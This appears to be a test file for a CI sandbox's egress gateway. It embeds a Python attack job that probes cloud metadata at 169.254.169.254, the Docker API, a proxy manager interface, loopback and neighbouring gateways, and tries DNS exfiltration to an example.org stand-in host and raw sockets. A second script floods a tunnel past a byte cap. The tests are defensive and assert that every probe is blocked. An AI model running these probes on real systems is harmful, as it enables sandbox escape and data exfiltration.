/**
 * Attack cases of the egress gateway (under the suite's runtime): a server whose operator allows
 * one local index (named as internal), and also, by name and by address, a second local server that
 * is not internal (its name and address are private: both must be refused). Two hostile jobs run at
 * once, each trying every way around or through its gateway; the upstreams' own logs say what reached
 * them. Nothing here leaves the machine: the names outside the test network are never resolved (a
 * refused name is not looked up) and the addresses tried are special-purpose ones the gateway refuses.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { promisify } from 'node:util';
import type { EgressReport } from '../../src/common/egress-rules';
import { makeTar } from '../fixtures/archives';
import { startUpstreams, type Upstreams } from '../fixtures/egress-upstreams';
import { AttackServer, HostWatch, RUNTIME, startAttackServer } from './harness';

const exec = promisify(execFile);
const CAP = 8 * 1024 * 1024;

/** The hostile job: prints `CASE <name>: blocked (<why>)` or `CASE <name>: OPEN (<what>)` for each attempt. */
const ATTACK = String.raw`
import http.client, json, os, socket, sys, time, urllib.request
from urllib.parse import urlparse
ALLOWED, ALLOWED_IP, OTHER, OTHER_IP, TOKEN = sys.argv[1:6]
proxy = urlparse(os.environ['HTTP_PROXY'])
GW = proxy.hostname
def case(name, fn):
    t0 = time.time()
    try:
        verdict = fn()
    except Exception as e:
        verdict = 'blocked (%s: %s)' % (type(e).__name__, str(e)[:120])
    print('CASE %s: %s [%.1f s]' % (name, verdict, time.time() - t0), flush=True)
def via_proxy(url, method='GET'):
    c = http.client.HTTPConnection(GW, proxy.port, timeout=10)
    c.request(method, url)
    r = c.getresponse(); body = r.read(4096)
    if r.status == 200: return 'OPEN (%d %r)' % (r.status, body[:80])
    return 'blocked (%d)' % r.status
def connect(target):
    c = http.client.HTTPConnection(GW, proxy.port, timeout=10)
    c.request('CONNECT', target, headers={'Host': target})
    r = c.getresponse()
    return 'OPEN (CONNECT %d)' % r.status if r.status == 200 else 'blocked (CONNECT %d)' % r.status
def direct(host, port):
    s = socket.socket(); s.settimeout(3)
    s.connect((host, port)); s.close()
    return 'OPEN (connected to %s:%d)' % (host, port)
def resolve(name):
    return 'OPEN (%s resolved to %s)' % (name, socket.getaddrinfo(name, 80)[0][4][0])

time.sleep(3)  # the other job's gateway is up by now: its addresses are tried below
case('manager-direct', lambda: via_proxy('/squid-internal-mgr/info'))
case('manager-cache-object', lambda: via_proxy('cache_object://localhost/info'))
case('manager-by-gateway-name', lambda: via_proxy('http://%s:%d/squid-internal-mgr/info' % (GW, proxy.port)))
case('loopback', lambda: via_proxy('http://127.0.0.1:%d/' % proxy.port))
case('localhost-name', lambda: via_proxy('http://localhost:8080/'))
case('metadata', lambda: via_proxy('http://169.254.169.254/latest/meta-data/'))
case('metadata-connect', lambda: connect('169.254.169.254:80'))
case('docker-bridge', lambda: via_proxy('http://172.17.0.1:2375/version'))
case('ip-literal-of-allowed', lambda: via_proxy('http://%s:8080/simple/' % ALLOWED_IP))
case('connect-ip-literal', lambda: connect('%s:8080' % ALLOWED_IP))
case('listed-name-private-address', lambda: via_proxy('http://%s:8080/simple/' % OTHER))
case('connect-listed-name-private-address', lambda: connect('%s:8080' % OTHER))
case('listed-private-literal', lambda: via_proxy('http://%s:8080/simple/' % OTHER_IP))
case('allowed-host-other-port', lambda: via_proxy('http://%s:8081/' % ALLOWED))
case('dns-exfil-direct', lambda: resolve('exfil-%s.example.org' % TOKEN))
case('dns-exfil-via-proxy', lambda: via_proxy('http://exfil-%s.example.org/' % TOKEN))
case('dns-exfil-connect', lambda: connect('exfil-%s.example.org:443' % TOKEN))
case('raw-socket', lambda: (socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), 'OPEN (raw socket)')[1])
case('packet-socket', lambda: (socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0), 'OPEN (packet socket)')[1])
case('bypass-proxy', lambda: direct(ALLOWED_IP, 8080))
case('host-via-bridge', lambda: direct(GW.rsplit('.', 1)[0] + '.1', 22))
for b in range(16, 32):
    for last in (2, 3):
        a = '172.%d.0.%d' % (b, last)
        if a != GW: case('other-gateway %s' % a, lambda a=a: direct(a, proxy.port))
# allowed, as a check that the job is not simply cut off
print('ALLOWED', via_proxy('http://%s:8080/simple/' % ALLOWED), flush=True)
`;

/** Past the byte cap: a download through a CONNECT tunnel (squid cannot see its size) is cut off by the gateway's counter. */
const FLOOD = String.raw`
# 4 GB: long enough (seconds, even on loopback) for the counter to cut it off midway
import os, socket, sys
from urllib.parse import urlparse
ALLOWED = sys.argv[1]
proxy = urlparse(os.environ['HTTP_PROXY'])
s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
s.sendall(('CONNECT %s:8080 HTTP/1.1\r\nHost: %s:8080\r\n\r\n' % (ALLOWED, ALLOWED)).encode())
head = s.recv(4096)
assert head.startswith(b'HTTP/1.1 200'), head
s.sendall(('GET /big/4000000000 HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % ALLOWED).encode())
got = 0
try:
    while True:
        d = s.recv(1 << 20)
        if not d: break
        got += len(d)
except OSError as e:
    print('cut:', e)
print('FLOOD received', got, flush=True)
`;

/** A job's gateway and network left once it is over (allowing their removal 10 s, as the sandbox's). */
async function leftOf(jobId: string): Promise<string[]> {
  const deadline = Date.now() + 10_000;
  for (;;) {
    const { stdout: gw } = await exec('docker', ['ps', '-aq', '--filter', `name=kiln-gw-${jobId}`], { encoding: 'utf8' });
    const { stdout: net } = await exec('docker', ['network', 'ls', '-q', '--filter', `name=kiln-net-${jobId}`], { encoding: 'utf8' });
    const left = [...gw.split('\n'), ...net.split('\n')].filter(Boolean);
    if (!left.length || Date.now() > deadline) return left;
    await new Promise((r) => setTimeout(r, 200));
  }
}

interface JobView {
  id: string;
  key: string;
  conclusion: string | null;
  egress: EgressReport | null;
}

describe(`attack: the egress gateway (${RUNTIME})`, () => {
  let up: Upstreams;
  let server: AttackServer;
  let watch: HostWatch;

  before(async () => {
    up = await startUpstreams();
    const allow = `${up.allowed.host}:8080,${up.other.host}:8080,${up.other.address}:8080`;
    server = await startAttackServer({ ...up.env, KILN_EGRESS_ALLOW: allow, KILN_EGRESS_MAX_BYTES: String(CAP) });
    // A first job makes the gateways' outbound network (it stays, as the engine's own bridge does).
    const warm = await server.kiln.accepted(server.kiln.submitJson({ command: 'true' }));
    const warmed = await server.kiln.waitFor(warm.id);
    assert.deepEqual(await leftOf(warmed.jobs[0].id), []); // its gateway and network gone before the baseline is taken
    watch = await HostWatch.create(server);
  });
  after(async () => {
    await server?.stop();
    await up?.close();
  });

  test('two hostile jobs at once: every way around or through the gateway is refused; the upstreams saw only the allowed requests; nothing is left behind', async () => {
    const token = randomBytes(6).toString('hex');
    const workflow = `on: push
jobs:
  hostile:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        n: [1, 2]
    steps:
      - run: python3 attack.py ${up.allowed.host} ${up.allowed.address} ${up.other.host} ${up.other.address} ${token}
`;
    const otherBefore = (await up.other.requests()).length;
    const run = await server.kiln.accepted(
      server.kiln.submitTarball(
        await makeTar([
          ['.kiln.yml', workflow],
          ['attack.py', ATTACK],
        ]),
      ),
    );
    const done = await server.kiln.waitFor(run.id, 300_000);
    const log = await server.kiln.logs(done.id);
    const jobs = done.jobs as unknown as JobView[];
    assert.deepEqual(
      jobs.map((j) => j.conclusion),
      ['success', 'success'],
      log,
    );
    const cases = [...log.matchAll(/CASE (.+?): (\S+)/g)].map((m) => [m[1], m[2]]);
    assert.ok(cases.length >= 2 * 50, `every case ran in both jobs:\n${log}`);
    assert.deepEqual(
      cases.filter(([, verdict]) => verdict !== 'blocked'),
      [],
      log,
    );
    assert.equal((log.match(/ALLOWED OPEN \(200/g) ?? []).length, 2, 'the allowed index answered both jobs');
    assert.equal((await up.other.requests()).length, otherBefore, 'the private server on the list (by name and address) saw nothing');
    for (const j of jobs) {
      const e = j.egress!;
      assert.ok(!e.lookups.some((n) => n.includes(token)), `the made-up names were never looked up: ${e.lookups.join(', ')}`);
      assert.ok(!e.lookups.some((n) => n.includes('example.org') || n === 'localhost'), e.lookups.join(', '));
      const refused = e.hosts.filter((h) => !h.allowed).map((h) => `${h.host}:${h.port}`);
      for (const where of ['169.254.169.254:80', `${up.allowed.address}:8080`, `${up.other.address}:8080`, `exfil-${token}.example.org:443`])
        assert.ok(refused.includes(where), `${where} is reported refused: ${refused.join(', ')}`);
      assert.ok(
        e.hosts.some((h) => h.allowed && h.host === up.allowed.host && h.requests === 1),
        JSON.stringify(e.hosts),
      );
    }
    for (const j of jobs) assert.deepEqual(await leftOf(j.id), [], 'the gateway and the network are removed with the job');
    await watch.assertUnchanged('hostile egress jobs');
  });

  test('a download through a tunnel past the byte cap is cut off; the report says so', async () => {
    const workflow = `on: push
jobs:
  flood:
    runs-on: ubuntu-latest
    steps:
      - run: python3 flood.py ${up.allowed.host}
      - run: python3 -c "import urllib.request; urllib.request.urlopen('http://${up.allowed.host}:8080/simple/', timeout=10)" && echo STILL-OPEN || echo CUT-OFF
`;
    const run = await server.kiln.accepted(
      server.kiln.submitTarball(
        await makeTar([
          ['.kiln.yml', workflow],
          ['flood.py', FLOOD],
        ]),
      ),
    );
    const done = await server.kiln.waitFor(run.id, 300_000);
    const log = await server.kiln.logs(done.id);
    const job = (done.jobs as unknown as JobView[])[0];
    const got = Number(/FLOOD received (\d+)/.exec(log)?.[1] ?? NaN);
    assert.ok(got < 4_000_000_000, `the tunnel was cut off (received ${got} bytes):\n${log}`);
    console.log(`# ${RUNTIME}: a 4 GB download through a tunnel was cut off after ${got} bytes (cap ${CAP}); the gateway counted ${job.egress!.totalBytes}`);
    assert.match(log, /CUT-OFF/);
    assert.match(log, /passed its egress byte cap \(8 MiB\)/);
    assert.equal(job.egress!.capReached, true);
    assert.ok(job.egress!.totalBytes > CAP);
    await watch.assertUnchanged('a flood past the byte cap');
  });
});
